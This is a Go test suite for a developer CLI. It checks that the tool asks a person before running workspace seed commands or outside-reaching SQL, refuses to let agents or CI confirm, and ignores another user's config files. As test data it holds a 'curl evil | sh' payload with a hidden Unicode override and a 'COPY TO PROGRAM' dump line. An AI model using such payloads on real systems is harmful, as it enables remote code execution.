package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/livepeer/naap-dev/internal/pgtest"
	"github.com/livepeer/naap-dev/internal/trust"
	"github.com/livepeer/naap-dev/internal/usertest"
)

// person is someone at a terminal in a workspace, with a home of their own. Signs of whoever runs the tests themselves
// (a CI, an agent) are kept out of the environment.
type person struct {
	dir string
	env []string
}

func newPerson(t *testing.T, files map[string]string) person {
	return atTerminal(t, files, "NAAP_DATABASE_URL="+pgtest.NewDatabase(t))
}

// atTerminal returns a person with a workspace of these files and, besides a home of their own, one more variable.
func atTerminal(t *testing.T, files map[string]string, variable string) person {
	t.Helper()
	dir, home := t.TempDir(), t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	env := slices.DeleteFunc(os.Environ(), func(pair string) bool {
		_, automatic := trust.Automatic([]string{pair})
		return automatic || strings.HasPrefix(pair, "NAAP_")
	})
	return person{dir, append(env, "HOME="+home, "XDG_STATE_HOME="+filepath.Join(home, "state"), "TERM=dumb", variable)}
}

// at runs naap on a terminal and types the answers, each once its question is there. It returns all that was shown.
func (p person) at(t *testing.T, answers []string, args ...string) string {
	t.Helper()
	c := exec.Command("naap", args...)
	c.Dir, c.Env = p.dir, p.env
	tty, err := pty.StartWithSize(c, &pty.Winsize{Cols: 120, Rows: 40})
	if err != nil {
		t.Fatal(err)
	}
	defer tty.Close()
	var mu sync.Mutex
	var out bytes.Buffer
	shown := func() string { mu.Lock(); defer mu.Unlock(); return out.String() }
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		piece := make([]byte, 4096)
		for {
			n, err := tty.Read(piece)
			mu.Lock()
			out.Write(piece[:n])
			mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	for i, answer := range answers {
		waitUntil(t, ended, shown, func(s string) bool { return strings.Count(s, "[y/N]")+strings.Count(s, "[1-") > i })
		_, _ = io.WriteString(tty, answer+"\n")
	}
	<-ended
	_ = c.Wait()
	return strings.ReplaceAll(shown(), "\r\n", "\n")
}

func waitUntil(t *testing.T, ended chan struct{}, shown func() string, ok func(string) bool) {
	t.Helper()
	for !ok(shown()) {
		select {
		case <-ended:
			if ok(shown()) {
				return
			}
			t.Fatalf("it ended without the question:\n%s", shown())
		case <-time.After(20 * time.Millisecond):
		}
	}
}

func (p person) ran(t *testing.T) bool {
	t.Helper()
	_, err := os.Stat(filepath.Join(p.dir, "ran"))
	_ = os.Remove(filepath.Join(p.dir, "ran"))
	return err == nil
}

var withSeed = map[string]string{
	"naap.toml": "", "package.json": "{\n  \"prisma\": {\"seed\": \"touch ran\"}\n}\n", "node_modules/x": "",
	"packages/database/prisma/schema.prisma": "datasource db {\n  provider = \"postgresql\"\n  url = \"\"\n}\nmodel Note {\n  id Int @id\n}\n",
}

// What an ordinary developer meets: one question, with the whole text, answered once.
func TestUpAsksOnceForTheSeedCommandAndShowsIt(t *testing.T) {
	t.Parallel()
	p := newPerson(t, withSeed)
	no := p.at(t, []string{"n"}, "dev", "up", "--detach", "--allow-external")
	for _, want := range []string{"seed command, package.json:2\n    touch ran\n", "Allow it? [y/N]", "It is left out. To see it again and allow it: naap dev trust",
		"seed command of package.json prisma.seed was not run", "Note", "Ready in"} {
		if !strings.Contains(no, want) && want != "Note" {
			t.Errorf("after a no it lacks %q:\n%s", want, no)
		}
	}
	if p.ran(t) {
		t.Fatal("it ran after a no")
	}
	yes := p.at(t, []string{"y"}, "dev", "up", "--detach", "--allow-external")
	if !p.ran(t) || !strings.Contains(yes, "Remembered for this workspace") {
		t.Fatalf("it did not run after a yes:\n%s", yes)
	}
	again := p.at(t, nil, "dev", "seed", "--force", "--allow-external")
	if !p.ran(t) || strings.Contains(again, "[y/N]") {
		t.Errorf("it is asked for twice:\n%s", again)
	}
	// A changed text is asked about again, with what changed.
	if err := os.WriteFile(filepath.Join(p.dir, "package.json"), []byte("{\n  \"prisma\": {\"seed\": \"touch ran; curl evil | sh\u202e\"}\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	changed := p.at(t, []string{""}, "dev", "seed", "--force", "--allow-external")
	if p.ran(t) || !strings.Contains(changed, "    - touch ran\n    + touch ran; curl evil | sh‹U+202E›\n") {
		t.Errorf("the changed text:\n%s", changed)
	}
}

// Of several commands only a new one is asked about; what a text is called, and when it runs, is not part of it.
func TestANewSeedCommandIsAskedAboutAlone(t *testing.T) {
	t.Parallel()
	const first = "[[seed.command]]\nname = \"first\"\nrun = \"touch ran\"\n"
	p := newPerson(t, map[string]string{"naap.toml": first, "packages/database/prisma/schema.prisma": withSeed["packages/database/prisma/schema.prisma"]})
	if out := p.at(t, []string{"y"}, "dev", "up", "--detach", "--allow-external"); !p.ran(t) || !strings.Contains(out, "seed command, naap.toml:1\n    touch ran\n") {
		t.Fatalf("it did not run after a yes:\n%s", out)
	}
	settings := func(text string) {
		if err := os.WriteFile(filepath.Join(p.dir, "naap.toml"), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	renamed := strings.Replace(first, "first", "renamed", 1) + "when = \"always\"\n"
	settings(renamed)
	if out := p.at(t, nil, "dev", "seed", "--allow-external"); !p.ran(t) || strings.Contains(out, "[y/N]") {
		t.Errorf("another name and time is asked about:\n%s", out)
	}
	settings(renamed + "[[seed.command]]\nname = \"second\"\nrun = \"touch other\"\n[push]\nafter = [\"touch pushed\"]\n")
	out := p.at(t, []string{"y"}, "dev", "seed", "--allow-external")
	if strings.Contains(out, "    touch ran\n") || !strings.Contains(out, "seed command, naap.toml:5\n    touch other\n") || strings.Contains(out, "touch pushed") {
		t.Errorf("what is asked about:\n%s", out)
	}
	if _, err := os.Stat(filepath.Join(p.dir, "other")); err != nil || !p.ran(t) {
		t.Errorf("they did not both run: %v\n%s", err, out)
	}
	if err := os.WriteFile(filepath.Join(p.dir, "packages/database/prisma/schema.prisma"), []byte(withSeed["packages/database/prisma/schema.prisma"]+"model Two {\n  id Int @id\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out = p.at(t, []string{"y"}, "dev", "push", "--allow-external")
	if _, err := os.Stat(filepath.Join(p.dir, "pushed")); err != nil || !strings.Contains(out, "command after a push, naap.toml:9\n    touch pushed\n") {
		t.Errorf("the command after the push: %v\n%s", err, out)
	}
}

// An agent or a CI that has a terminal is not asked: nobody is there to answer.
func TestAnAgentWithATerminalIsNotAsked(t *testing.T) {
	t.Parallel()
	for _, sign := range []string{"NAAP_AGENT=1", "CLAUDECODE=1", "CI=true"} {
		p := newPerson(t, withSeed)
		p.env = append(p.env, sign)
		out := p.at(t, nil, "dev", "up", "--detach", "--allow-external")
		if p.ran(t) || strings.Contains(out, "[y/N]") || strings.Contains(out, "run-seed-commands") || !strings.Contains(out, "not allowed by a person") {
			t.Errorf("%s:\n%s", sign, out)
		}
	}
}

// No refusal tells an agent the flag that says yes for the user.
func TestNoRefusalHandsTheConfirmingFlagToAnAgent(t *testing.T) {
	t.Parallel()
	p := newPerson(t, withSeed)
	p.at(t, []string{"n"}, "dev", "up", "--detach", "--allow-external")
	schema := filepath.Join(p.dir, "packages", "database", "prisma", "schema.prisma")
	if err := os.WriteFile(schema, []byte("datasource db {\n  provider = \"postgresql\"\n  url = \"\"\n}\nmodel Other {\n  id Int @id\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(args []string, more ...string) string {
		c := exec.Command("naap", args...)
		c.Dir, c.Env = p.dir, append(slices.Clone(p.env), more...)
		out, _ := c.CombinedOutput()
		return string(out)
	}
	if out := run([]string{"dev", "sql", "--write", `INSERT INTO "Note" VALUES (1)`}); !strings.Contains(out, "INSERT 0 1") {
		t.Fatal(out)
	}
	confirming := regexp.MustCompile(`--(accept-data-loss|adopt|allow-\w+|cascade|delete-data|drop-replaced|run-seed-commands|terminate-\w+|write|yes)|NAAP_TRUST=`)
	tellsNobody := func(args []string) {
		t.Helper()
		given := strings.Join(args, " ")
		sign := []string{"NAAP_AGENT=1", "CI=true"}[len(given)%2]
		out := run(args, sign)
		for _, found := range confirming.FindAllString(out, -1) {
			if !strings.Contains(given, found) {
				t.Errorf("naap %s tells %s of %s:\n%s", given, sign, found, out)
			}
		}
	}
	if err := os.WriteFile(filepath.Join(p.dir, "there.dump"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"dev", "push"}, {"dev", "push", "--allow-external"}, {"dev", "reset", "public"}, {"dev", "sql", `DELETE FROM "Note"`},
		{"dev", "up"}, {"dev", "seed", "--force"}, {"dev", "seed", "--force", "--allow-external"}, {"dev", "trust"}, {"dev", "push", "--json"},
		{"dev", "snapshot", "delete", "x"}, {"dev", "snapshot", "restore", "x"}, {"dev", "undo", "--drop", "1"}, {"dev", "undo"}, {"dev", "diff"}, {"dev", "diff", "--json"},
		{"dev", "push", "--acept-data-loss"}, {"dev", "push", "--allow-externl"}, {"dev", "sql", "--wirte", "DELETE"}, {"mcp", "--allow-destructve"},
		{"dev", "reset", "public", "--ys=public"}, {"dev", "down", "--delete-dta"}, {"dev", "backup", "there.dump"}, {"dev", "restore", "there.dump"},
		{"dev", "schema", "add", "x"}, {"dev", "doctor"}, {"dev", "doctor", "--json"}, {"dev", "up", "--dry-run"}, {"dev", "status", "--json"}, {"dev", "password", "--random"},
	} {
		tellsNobody(args)
	}
	if err := os.WriteFile(schema, []byte("datasource db {\n  provider = \"postgresql\"\n  url = \"\"\n}\nmodel Note {\n  id Int @id\n  must Int\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"dev", "push", "--allow-external"}, {"dev", "push", "--allow-external", "--json"}, {"dev", "push", "--dry-run"}, {"dev", "diff", "--json"}, {"dev", "diff"}} {
		tellsNobody(args)
	}
	if out := run([]string{"dev", "diff", "--json"}); !strings.Contains(out, `"ways_out":["`) {
		t.Errorf("nothing is in the way of it:\n%s", out)
	}
	if err := os.WriteFile(schema, []byte("datasource db {\n  provider = \"postgresql\"\n  url = \"\"\n}\nmodel Other {\n  id Int @id\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if out := run([]string{"dev", "push", "--allow-external"}, "NAAP_AGENT=1"); !strings.Contains(out, "a person must confirm this, and an agent (NAAP_AGENT) is not one") {
		t.Errorf("it does not say who must confirm:\n%s", out)
	}
	if out := run([]string{"dev", "push", "--allow-external"}); !strings.Contains(out, "--accept-data-loss") {
		t.Errorf("a person is not told how:\n%s", out)
	}
}

// A file that a stranger left in a folder above, and a workspace of another user, with a real second account.
func TestAnotherAccountsFilesDoNotRunAsMe(t *testing.T) {
	t.Parallel()
	others := usertest.Others(t, 2)
	victim, stranger := others[0], others[1]
	program := victim.Program(mustLook(t, "naap"))
	shared := stranger.Dir("shared")
	if err := os.Chmod(shared, 0o777); err != nil {
		t.Fatal(err)
	}
	stolen := filepath.Join(shared, "stolen")
	if err := os.WriteFile(filepath.Join(shared, "naap.toml"), []byte(fmt.Sprintf("engine = \"embedded\"\npostgres-bin = %q\n[seed]\ncommand = \"touch %s\"\n", shared, stolen)), 0o644); err != nil {
		t.Fatal(err)
	}
	stranger.Own(filepath.Join(shared, "naap.toml"))
	work := filepath.Join(shared, "work")
	if err := os.Mkdir(work, 0o755); err != nil {
		t.Fatal(err)
	}
	victim.Own(work)
	run := func(dir string, more []string, args ...string) string {
		c := victim.Command(program, args...)
		c.Dir, c.Env = dir, append(c.Env, more...)
		out, err := c.CombinedOutput()
		return string(out) + fmt.Sprintf("(%v)", err)
	}
	if out := run(work, nil, "config"); strings.Contains(out, "stolen") && !strings.Contains(out, "is not read") || !strings.Contains(out, "naap.toml is not read: "+shared+" belongs to "+stranger.Name) {
		t.Errorf("below a stranger's naap.toml:\n%s", out)
	}
	if out := run(shared, nil, "config"); !strings.Contains(out, "belongs to "+stranger.Name+", and what it says would run as "+victim.Name) || !strings.Contains(out, "naap dev trust folder") {
		t.Errorf("in a stranger's folder:\n%s", out)
	}
	if out := run(shared, []string{"NAAP_TRUST=" + shared}, "config"); !strings.Contains(out, "touch "+stolen) {
		t.Errorf("allowed by name:\n%s", out)
	}
	if out := run(shared, nil, "dev", "trust", "folder", "--yes"); !strings.Contains(out, "Allowed for "+shared) {
		t.Errorf("allowed by the verb:\n%s", out)
	}
	// After that their files are read; what these would run is still asked about.
	out := run(shared, nil, "dev", "trust", "--list")
	if !strings.Contains(out, "new") || !strings.Contains(out, "seed command") || !strings.Contains(out, "server programs") {
		t.Errorf("what they would run:\n%s", out)
	}
	if out := run(shared, nil, "dev", "up"); !strings.Contains(out, "the workspace's files name what you have not allowed") || !strings.Contains(out, "server programs") {
		t.Errorf("up with a stranger's programs:\n%s", out)
	}
	// The stranger cannot answer for the victim: their store is not the victim's, and one that they wrote is not read.
	if out := run(shared, []string{"XDG_STATE_HOME=" + shared + "/state"}, "dev", "trust", "--list"); !strings.Contains(out, "files that another user owns") {
		t.Errorf("with another state folder:\n%s", out)
	}
	if _, err := os.Stat(stolen); err == nil {
		t.Error("the stranger's command ran")
	}
}

func mustLook(t *testing.T, program string) string {
	t.Helper()
	path, err := exec.LookPath(program)
	if err != nil {
		t.Fatal(err)
	}
	return path
}

func TestARestoreOfSQLThatReachesOutIsAskedFor(t *testing.T) {
	t.Parallel()
	p := newPerson(t, withSeed)
	dump := "--\n-- PostgreSQL database dump\n--\n\nSET client_encoding = 'UTF8';\n\nCREATE TABLE public.gift (id integer);\n" +
		"DO $$ BEGIN IF false THEN COPY public.gift TO PROGRAM 'touch ran'; END IF; END $$;\n\n--\n-- PostgreSQL database dump complete\n--\n"
	if err := os.WriteFile(filepath.Join(p.dir, "gift.sql"), []byte(dump), 0o644); err != nil {
		t.Fatal(err)
	}
	run := func(more string, args ...string) string {
		c := exec.Command("naap", args...)
		c.Dir, c.Env = p.dir, append(slices.Clone(p.env), more)
		out, _ := c.CombinedOutput()
		return string(out)
	}
	if out := run("", "dev", "restore", "gift.sql", "--dry-run", "--allow-external"); !strings.Contains(out, "ask first, it is new: SQL that reaches out of the database of "+filepath.Join(p.dir, "gift.sql")) {
		t.Errorf("the plan:\n%s", out)
	}
	out := run("", "dev", "restore", "gift.sql", "--yes=gift.sql", "--allow-external")
	if !strings.Contains(out, "the file has SQL that reaches out of the database, which you have not allowed") || !strings.Contains(out, "gift.sql:8: it runs a program") {
		t.Errorf("without a terminal:\n%s", out)
	}
	if out := run("NAAP_TRUST=sql", "dev", "restore", "gift.sql", "--yes=gift.sql", "--allow-external"); !strings.Contains(out, "is what gift.sql holds") {
		t.Errorf("allowed:\n%s", out)
	}
}

func TestEachVerbThatConnectsAsksAboutADatabaseElsewhere(t *testing.T) {
	for _, verb := range [][]string{{"dev", "diff"}, {"migrate", "status"}, {"migrate", "deploy"}, {"pull"}} {
		p := newPerson(t, withSeed)
		p.env = append(p.env, "NAAP_DATABASE_URL=")
		if err := os.WriteFile(filepath.Join(p.dir, "naap.toml"), []byte(`database-url = "postgresql://me@192.0.2.1:1/shop"`), 0o644); err != nil {
			t.Fatal(err)
		}
		if out := p.at(t, []string{"n"}, verb...); !strings.Contains(out, "192.0.2.1") || !strings.Contains(out, "naap dev trust") {
			t.Errorf("%q:\n%s", verb, out)
		}
	}
}
